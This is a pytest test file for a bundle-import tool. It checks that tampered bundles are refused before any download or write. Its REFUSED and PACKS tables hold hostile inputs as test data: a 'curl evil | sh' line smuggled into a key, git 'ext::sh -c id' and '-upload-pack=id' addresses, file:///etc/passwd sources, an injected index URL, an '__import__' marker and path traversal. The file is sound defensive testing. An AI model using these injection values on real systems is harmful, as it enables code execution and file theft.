"""A stranger's bundle is refused in one sentence, or does no more than was agreed to."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.hub.registry import Pack, PackVersion, node_registry
from tests.journeys.hostile import Change, append, changed, swap, tell, write
from tests.journeys.machines import Machine, machine
from tests.journeys.town import Town, git, pack_files, write_files

PROJECT, LOCK = "pyproject.toml", "uv.lock"
REPOSITORY = 'repository = "https://github.com/acme/acme-git"'
SOURCE = "https://huggingface.co/town/models/resolve/main/upscale_models/tiny-2x.safetensors"
MODEL_PATH = 'relative_path = "upscale_models/tiny-2x.safetensors"'
EVIL = '\n[[package]]\nname = "evil"\nversion = "1"\nsource = { registry = "x" }\n'
DEEP = "[" * 100_000


def repository(address: str) -> Change:
    return swap(PROJECT, REPOSITORY, f'repository = "{address}"')


def node_name(name: str) -> Change:
    return swap(PROJECT, "[tool.comfydock.nodes.acme-git]", f'[tool.comfydock.nodes."{name}"]')


def source(address: str) -> Change:
    return swap(PROJECT, SOURCE, address)


def workflow_key(key: str) -> Change:
    table = f'[tool.comfydock.workflows."{key}"]\npath = 5\n\n[dependency-groups]'
    return swap(PROJECT, "[dependency-groups]", table)


REFUSED: dict[str, tuple[Change, str]] = {
    "a requirement with an address": (
        swap(PROJECT, '"packaging>=24"', '"packaging @ https://evil.example/p.whl"'),
        "project.dependencies",
    ),
    "a requirement with a line feed": (
        swap(PROJECT, '"packaging>=24"', '"packaging>=24\\n--index-url https://evil.example"'),
        "project.dependencies",
    ),
    "deep TOML": (append(PROJECT, f"x = {DEEP}"), "nested too deeply"),
    "a long number": (append(PROJECT, f"x = {'9' * 5000}"), "too long"),
    "a key that writes a hint": (workflow_key("x\\nhint: curl evil | sh"), r"x\nhint: curl"),
    "a key of 100 KB": (workflow_key("x" * 100_000), "xxx…` in `pyproject.toml`"),
    "a lock's key with a line feed": (
        append(LOCK, EVIL.replace("registry", '"a\\nb"').replace('"x"', "1")),
        r"source.a\nb",
    ),
    "git: another transport": (repository("ext::sh -c id"), "acme-git.repository"),
    "git: a folder": (repository("/etc"), "acme-git.repository"),
    "git: the form of scp": (repository("git@github.com:a/b"), "acme-git.repository"),
    "git: an option": (repository("-upload-pack=id"), "acme-git.repository"),
    "git: a file address": (repository("file:///etc"), "acme-git.repository"),
    "git: a password": (repository("https://u:p@github.com/a/b"), "acme-git.repository"),
    "a node out of its folder": (node_name("../x"), "no name for a node"),
    "a node with a device's name": (node_name("CON"), "reserves for a device"),
    "a node's twin": (swap(PROJECT, 'name = "acme-git"', 'name = "ACME-TEXT"'), "same folder"),
    "a model out of its folder": (swap(PROJECT, MODEL_PATH, 'relative_path = "../x.pt"'), ".."),
    "a model that is a program": (swap(PROJECT, MODEL_PATH, 'relative_path = "x.exe"'), ".exe"),
    "a source with a password": (source("https://u:p@evil.example/x"), "password"),
    "a source on this disk": (source("file:///etc/passwd"), "no http or https"),
    "a lock with an option": (
        append(LOCK, EVIL.replace('"1"', '"1\\n-e ."')),
        "package[6].version",
    ),
    "a lock with code as a marker": (
        append(LOCK, EVIL + "resolution-markers = [\"__import__('os')\"]\n"),
        "no environment marker",
    ),
    "an interpreter as the version": (write(".python-version", "/tmp/evil"), ".python-version"),
    "a uv.toml": (write("uv.toml", ""), "uv.toml"),
    "an environment out of its folder": (tell(environment_name="../x"), "environment_name"),
    "an environment without a name": (tell(environment_name=""), "environment_name"),
}


@pytest.fixture
def receiver(town: Town, tmp_path: Path) -> Machine:
    return machine(tmp_path / "receiver", town)


def requests_seen(town: Town) -> int:
    return len(town.git.requests) + len(town.registry.requests) + len(town.models.requests)


def written(bundle: Path, change: Change, folder: Path) -> str:
    target = folder / "hostile.tar.gz"
    target.write_bytes(changed(bundle.read_bytes(), change))
    return str(target)


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_before_anything_happens(
    what: str, bundle: Path, receiver: Machine, town: Town, tmp_path: Path
) -> None:
    change, named = REFUSED[what]
    before = requests_seen(town)
    hostile = written(bundle, change, tmp_path)
    ran = receiver.run("import", hostile, "--yes", "--trust-code", "--json")
    assert ran.exit_code == 1
    (error,) = ran.envelope["errors"]
    assert error["code"] != "bug"
    sentence = error["message"].partition("\n")[0]
    assert named in sentence
    assert len(sentence) < 500
    assert not receiver.place("studio").exists()
    assert requests_seen(town) == before


def test_a_bundle_without_a_good_name_can_have_another(
    bundle: Path, receiver: Machine, tmp_path: Path
) -> None:
    hostile = written(bundle, tell(environment_name="../x"), tmp_path)
    refused = receiver.run("import", hostile, "--json")
    assert "--name" in refused.envelope["errors"][0]["hint"]
    receiver.ok("import", hostile, "--name", "mine", "--yes", "--trust-code", "--dry-run")


def git_node(town: Town, name: str) -> Path:
    folder = town.models_folder.parents[4] / "git" / "evil" / name
    write_files(folder, pack_files("AcmeGit", "colorama"))
    git(folder, "init", "-q", "-b", "master", ".")
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "good")
    return folder


def with_git_node(town: Town, name: str, commit: str) -> Change:
    def act(files: dict[str, bytes]) -> None:
        swap(PROJECT, "github.com/acme/acme-git", f"github.com/evil/{name}")(files)
        swap(PROJECT, town.git_node_commit, commit)(files)

    return act


@pytest.mark.parametrize("kind", ["heads", "tags"])
def test_a_ref_that_is_named_like_a_commit_is_not_taken_for_it(
    kind: str, bundle: Path, receiver: Machine, town: Town, tmp_path: Path
) -> None:
    folder = git_node(town, f"named-{kind}")
    good = git(folder, "rev-parse", "HEAD")
    pinned = good if kind == "tags" else "ab" * 20
    write_files(folder, {"evil.py": "evil = True\n"})
    git(folder, "checkout", "-q", "-b", "other")
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "evil")
    git(folder, "update-ref", f"refs/{kind}/{pinned}", "HEAD")
    git(folder, "checkout", "-q", "master")
    hostile = written(bundle, with_git_node(town, folder.name, pinned), tmp_path)
    ran = receiver.run("import", hostile, "--yes", "--trust-code", "--json")
    node = receiver.place("studio") / "ComfyUI/custom_nodes/acme-git"
    assert ran.exit_code == (0 if kind == "tags" else 3)
    assert node.exists() == (kind == "tags")
    assert not (node / "evil.py").exists()


PACKS: dict[str, tuple[dict[str, str], str]] = {
    "deep TOML": ({"pyproject.toml": f"x = {DEEP}"}, "nested too deeply"),
    "a long number": ({"pyproject.toml": f"x = {'9' * 5000}"}, "too long"),
    "a deep marker": ({"requirements.txt": f"x; {'(' * 5000}os_name=='a'"}, "cannot be locked"),
    "a folder in place of a list": ({".tracking/x": ""}, ".tracking"),
    "a git folder": ({".git/config": ""}, ".git/config"),
    "an address": ({"requirements.txt": "x @ file:///etc/passwd"}, "file:///etc/passwd"),
}


@pytest.mark.parametrize("what", PACKS)
def test_one_bad_pack_does_not_stop_the_import(
    what: str, bundle: Path, town: Town, tmp_path: Path
) -> None:
    files, named = PACKS[what]
    version = PackVersion(version="1.2.0", files={"__init__.py": "", **files})
    with node_registry([Pack(node_id="acme-text", versions=(version,))]) as registry:
        variables = dict(town.variables) | {"COMFYDOCK_REGISTRY": registry.url}
        receiver = Machine(home=tmp_path / "home", variables=variables)
        hostile = written(bundle, unpinned, tmp_path)
        ran = receiver.run("import", hostile, "--yes", "--trust-code", "--json")
    assert ran.exit_code == 3
    (failed,) = ran.envelope["data"]["nodes"]["failed"]
    assert failed["name"] == "acme-text"
    assert named in failed["reason"]


def unpinned(files: dict[str, bytes]) -> None:
    lines = files[PROJECT].splitlines(keepends=True)
    files[PROJECT] = b"".join(line for line in lines if not line.startswith(b"sha256 = "))
